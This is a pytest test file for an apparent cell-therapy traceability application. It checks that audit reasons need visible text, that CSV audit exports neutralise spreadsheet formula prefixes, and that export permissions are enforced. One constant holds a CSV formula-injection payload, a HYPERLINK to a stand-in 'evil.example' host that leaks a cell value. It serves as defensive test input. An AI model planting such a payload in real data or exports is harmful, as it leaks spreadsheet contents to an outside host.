"""Reasons must contain visible text, and the CSV export cannot carry a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable

import pytest
from sqlalchemy import text
from tests.conftest import Persona
from tests.integration.conftest import Trail

from atmpchain.accounts import users
from atmpchain.accounts.audit_export import export_audit_trail
from atmpchain.accounts.domain import Role
from atmpchain.audit.errors import ReasonRequired
from atmpchain.audit.queries import AuditFilter
from atmpchain.db import Database
from atmpchain.errors import InvalidInput
from atmpchain.identity import printing
from atmpchain.identity import service as identity_service
from atmpchain.identity.labels import LabelKind
from atmpchain.identity.printing import LabelRequest
from atmpchain.uow import UnitOfWork


def _rename(uow: UnitOfWork, admin: Persona, name: str, reason: str) -> None:
    users.update_details(
        uow,
        actor=admin.actor,
        user_id=admin.user_id,
        full_name=name,
        email=None,
        time_zone=None,
        reason=reason,
    )


@pytest.mark.parametrize("reason", ["\u200b", " \u200b\u200d\t", "\u3164", "\u202e"])
def test_refuses_a_change_whose_reason_is_only_invisible_characters(
    db: Database, uow: UnitOfWork, admin: Persona, trail: Trail, reason: str
) -> None:
    before = trail.state()
    with pytest.raises(ReasonRequired) as err:
        _rename(uow, admin, "Changed Name", reason)
    assert err.value.field == "reason"
    assert "visible text" in err.value.message
    assert trail.state() == before


def test_a_reason_is_recorded_without_invisible_characters_at_its_ends(
    uow: UnitOfWork, admin: Persona, trail: Trail
) -> None:
    _rename(uow, admin, "Ada Admin-Lovelace", "\u200b married name \u200b")
    (record,) = trail.records("accounts:user:details-changed")
    assert record.reason == "married name"


def test_refuses_a_label_reprint_whose_reason_is_a_zero_width_space(
    uow: UnitOfWork, make_persona: Callable[..., Persona]
) -> None:
    operator = make_persona(Role.OPERATOR, username="otto")
    coi = identity_service.create_chain(
        uow, actor=operator.actor, patient_ref="P-0042", therapy="CAR-T"
    )
    din = identity_service.issue_din(uow, actor=operator.actor)
    identity_service.bind_donation(
        uow, actor=operator.actor, coi_identifier=coi, din_text=din.eye_readable()
    )
    request = LabelRequest(kind=LabelKind.BAG, din=din.eye_readable())
    printing.print_label(uow, actor=operator.actor, request=request)
    with pytest.raises(InvalidInput) as err:
        printing.print_label(uow, actor=operator.actor, request=request, reason="\u200b")
    assert err.value.field == "reason"
    assert "visible text" in err.value.message


def _export(uow: UnitOfWork, qa: Persona, fmt: str) -> str:
    out = io.StringIO()
    export_audit_trail(uow, actor=qa.actor, out=out, fmt=fmt, flt=AuditFilter())  # type: ignore[arg-type]
    return out.getvalue()


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_export_neutralises_formula_prefixes_and_json_lines_stays_exact(
    uow: UnitOfWork, admin: Persona, qa: Persona, start: str
) -> None:
    reason = FORMULA if start == "=" else start + "SUM(1+1)"
    _rename(uow, admin, "Ada Lovelace", reason)
    rows = list(csv.DictReader(io.StringIO(_export(uow, qa, "csv"))))
    (row,) = [r for r in rows if r["action"] == "accounts:user:details-changed"]
    # The leading apostrophe makes a spreadsheet show the cell as text.
    assert row["reason"] == "'" + reason
    lines = [json.loads(line) for line in _export(uow, qa, "jsonl").splitlines()]
    (entry,) = [e for e in lines if e["action"] == "accounts:user:details-changed"]
    assert entry["reason"] == reason


def test_export_still_refuses_someone_without_the_permission(
    uow: UnitOfWork, make_persona: Callable[..., Persona], db: Database
) -> None:
    from atmpchain.errors import PermissionDenied

    nurse = make_persona(Role.NURSE, username="nora")
    with db.engine.connect() as conn:
        before = conn.execute(text("SELECT count(*) FROM audit_record")).scalar_one()
    with pytest.raises(PermissionDenied, match=r"audit\.export"):
        _export(uow, nurse, "csv")
    with db.engine.connect() as conn:
        assert conn.execute(text("SELECT count(*) FROM audit_record")).scalar_one() == before
